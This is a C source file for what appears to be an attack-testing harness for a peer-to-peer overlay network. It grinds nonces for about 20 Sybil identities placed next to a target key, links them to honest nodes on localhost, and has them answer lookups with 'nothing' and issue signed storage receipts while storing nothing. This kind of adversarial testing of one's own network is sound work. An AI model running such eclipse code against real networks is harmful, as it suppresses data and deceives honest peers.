/* Sybils near a key: --count identities (20) that lie nearer to it than any honest node, link to
 * all nodes, answer GET with "mine, nothing", PUT with a signed receipt, PUSH and DIGEST as if
 * they had everything, and keep nothing.
 *
 *   --arg "KEY PORT PORT .."      the key in hex, and the nodes */
#include "attack.h"
#include "os/os.h"

#include <stdio.h>
#include <stdlib.h>

#define NODES_MAX 32
#define REPLY_MAX 10 /* contacts in an answer: one datagram */
#define ARC 6        /* within 2^-ARC of the circle */

struct handover {
	struct gn_hash key;
	uint16_t ports[NODES_MAX];
	unsigned nodes, want, linked, gets, puts, pushes;
	uint64_t tries;
};

static uint8_t storage[1 << 16];

static struct gn_slice message(struct gn_fbb *b, uint64_t request, uint8_t type, gn_fbref body)
{
	struct gn_slice out;
	gn_fbref root = gn_fb_overlay_message_make(
		b, &(struct gn_fb_overlay_message_args){
			   .request = request, .body_type = type, .body = body});
	if (gn_fbb_finish(b, root, GN_FB_OVERLAY_MESSAGE_IDENTIFIER, &out))
		fail("a message does not fit its storage");
	return out;
}

static gn_fbref hello(const struct endpoint *e, struct gn_fbb *b)
{
	struct gn_fb_key pk;
	struct gn_fb_nonce nonce;
	struct gn_fb_addr addr = gn_wire_addr(&e->addr, GN_FB_CARRIER_UDP);
	memcpy(pk.b, e->key.pk.b, 32);
	memcpy(nonce.b, e->nonce, 8);
	return gn_fb_hello_make(
		b, &(struct gn_fb_hello_args){.pk = &pk,
					      .nonce = &nonce,
					      .class = 1,
					      .mode = GN_FB_NODE_MODE_SERVER,
					      .addrs = {&addr, 1},
					      .version = 1,
					      .since = gn_unix(e->attack->start) - 86400});
}

/* The others of us, and nobody else. */
static uint32_t contacts(const struct endpoint *e, struct gn_fbb *b, gn_fbref *out, uint32_t max)
{
	const struct attack *a = e->attack;
	uint32_t n = 0;
	for (unsigned i = 0; i < a->endpoint_count && n < max; i++) {
		const struct endpoint *x = a->endpoints[i];
		struct gn_fb_key pk;
		struct gn_fb_nonce nonce;
		struct gn_fb_addr addr = gn_wire_addr(&x->addr, GN_FB_CARRIER_UDP);
		if (x == e)
			continue;
		memcpy(pk.b, x->key.pk.b, 32);
		memcpy(nonce.b, x->nonce, 8);
		out[n++] = gn_fb_contact_make(
			b, &(struct gn_fb_contact_args){.pk = &pk,
							.nonce = &nonce,
							.addrs = {&addr, 1},
							.class = 1,
							.mode = GN_FB_NODE_MODE_SERVER});
	}
	return n;
}

static void ask_link(struct endpoint *e, gn_jet_id id)
{
	struct gn_fbb b = gn_fbb(storage, sizeof storage);
	gn_fbref h = hello(e, &b);
	endpoint_send(
		e, id,
		message(&b, 1, GN_FB_OVERLAY_BODY_LINK,
			gn_fb_link_make(&b, &(struct gn_fb_link_args){.kind = GN_FB_LINK_KIND_LEAF,
								      .hello = h})),
		false);
}

static gn_fbref signed_receipt(const struct endpoint *e, struct gn_fbb *b, struct gn_slice record)
{
	struct gn_record r;
	if (gn_wire_record_parse(record, &r))
		return 0;
	struct gn_receipt out = {
		.key = r.key, .seq = r.seq, .hash = r.hash, .held_until = r.created + r.ttl};
	memcpy(out.holder.b, e->id.b, 32);
	gn_wire_receipt_sign(&e->key, &out);
	return gn_wire_receipt_put(b, &out);
}

static void on_message(struct endpoint *e, gn_jet_id id, const struct gn_pk *from,
		       struct gn_slice bytes)
{
	struct handover *h = e->attack->user;
	struct gn_fb_overlay_message m;
	struct gn_fbb b = gn_fbb(storage, sizeof storage);
	gn_fbref refs[ENDPOINTS_MAX], body = 0, ref;
	uint8_t type = 0;
	(void)from;
	if (gn_fb_overlay_message_verify(bytes, &m))
		return;
	switch (gn_fb_overlay_message_body_type(m)) {
	case GN_FB_OVERLAY_BODY_LINK_OK: h->linked++; return;
	case GN_FB_OVERLAY_BODY_UNLINK: ask_link(e, id); return;
	case GN_FB_OVERLAY_BODY_HELLO:
		type = GN_FB_OVERLAY_BODY_HELLO;
		endpoint_send(e, id,
			      message_hello(e, GN_FB_NODE_MODE_SERVER, true,
					    gn_fb_overlay_message_request(m), storage,
					    sizeof storage),
			      false);
		return;
	case GN_FB_OVERLAY_BODY_LINK:
		type = GN_FB_OVERLAY_BODY_LINK_OK;
		ref = hello(e, &b);
		body = gn_fb_link_ok_make(&b, &(struct gn_fb_link_ok_args){
						      .hello = ref, .kind = GN_FB_LINK_KIND_LEAF});
		break;
	case GN_FB_OVERLAY_BODY_PING:
		type = GN_FB_OVERLAY_BODY_PONG;
		ref = gn_fb_delta_make(
			&b, &(struct gn_fb_delta_args){
				    .to_version = 1,
				    .add = {refs, contacts(e, &b, refs, ENDPOINTS_MAX)}});
		body = gn_fb_pong_make(&b, &(struct gn_fb_pong_args){
						   .delta = ref, .mode = GN_FB_NODE_MODE_SERVER});
		break;
	case GN_FB_OVERLAY_BODY_GET: h->gets++; /* fallthrough */
	case GN_FB_OVERLAY_BODY_FIND:
		type = GN_FB_OVERLAY_BODY_NODES;
		body = gn_fb_nodes_make(
			&b, &(struct gn_fb_nodes_args){
				    .contacts = {refs, contacts(e, &b, refs, REPLY_MAX)},
				    .mine = true});
		break;
	case GN_FB_OVERLAY_BODY_PUT:
		h->puts++;
		type = GN_FB_OVERLAY_BODY_ACK;
		ref = signed_receipt(e, &b, gn_fb_put_record(gn_fb_overlay_message_body_as_put(m)));
		body = gn_fb_ack_make(&b, &(struct gn_fb_ack_args){.receipt = ref});
		break;
	case GN_FB_OVERLAY_BODY_PUSH:
		h->pushes++;
		type = GN_FB_OVERLAY_BODY_ACK;
		body = gn_fb_ack_make(&b, &(struct gn_fb_ack_args){.leaf_digest = 0});
		break;
	case GN_FB_OVERLAY_BODY_DIGEST: /* "I have all of these" */
		type = GN_FB_OVERLAY_BODY_WANT;
		body = gn_fb_want_make(&b, &(struct gn_fb_want_args){.all = false});
		break;
	default: return;
	}
	if (gn_fb_overlay_message_request(m))
		endpoint_send(e, id, message(&b, gn_fb_overlay_message_request(m), type, body),
			      false);
}

static void on_event(struct endpoint *e, const struct gn_jet_event *event)
{
	if (event->kind == GN_JET_CONNECTED)
		ask_link(e, event->id);
}

static void parse_arg(const struct attack *a, struct handover *h)
{
	const char *at = a->arg ? a->arg : "";
	for (unsigned i = 0; i < 32; i++, at += 2) {
		unsigned byte;
		if (sscanf(at, "%2x", &byte) != 1)
			fail("--arg is \"KEY PORT PORT ..\", the key in hex");
		h->key.b[i] = (uint8_t)byte;
	}
	for (char *end; *at && h->nodes < NODES_MAX; at = end) {
		unsigned long port = strtoul(at, &end, 10);
		if (end == at || port == 0 || port > 65535)
			fail("no port: '%s'", at);
		h->ports[h->nodes++] = (uint16_t)port;
	}
}

/* A nonce that puts the endpoint beside the key and carries the work. */
static void grind(struct endpoint *e, struct handover *h)
{
	uint64_t theta = gn_ov_theta(h->key.b);
	for (uint64_t nonce = 0;; nonce++) {
		gn_put_be64(e->nonce, nonce);
		gn_overlay_id_make(&e->key.pk, e->nonce, &e->id);
		h->tries++;
		if (gn_ov_sep(gn_ov_theta(e->id.b), theta) < UINT64_C(1) << (63 - ARC) &&
		    gn_overlay_id_work(&e->id) >= e->attack->pow_bits)
			return;
	}
}

static bool all_linked(struct attack *a)
{
	const struct handover *h = a->user;
	return h->linked >= h->want;
}

int attack_handover(struct attack *a)
{
	static struct handover h;
	a->user = &h;
	parse_arg(a, &h);
	unsigned count = a->count ? a->count : 20;
	for (unsigned i = 0; i < count; i++) {
		struct endpoint *e = endpoint_new(a, 100 + i, NULL);
		grind(e, &h);
		e->on_message = on_message;
		e->on_event = on_event;
	}
	double worked = (double)(gn_os_now() - a->start) / 1e9;
	for (unsigned i = 0; i < count; i++)
		for (unsigned k = 0; k < h.nodes; k++) {
			struct gn_addr to = gn_addr_v4(127, 0, 0, 1, h.ports[k]);
			endpoint_dial(a->endpoints[i], &to);
		}
	h.want = count * h.nodes;
	(void)run(a, a->life < 30 * GN_SEC ? a->life : 30 * GN_SEC, all_linked);
	result("\"sybils\": %u, \"tries\": %llu, \"seconds of work\": %.2f, \"links\": %u, "
	       "\"wanted\": %u",
	       count, (unsigned long long)h.tries, worked, h.linked, h.want);
	return 0;
}
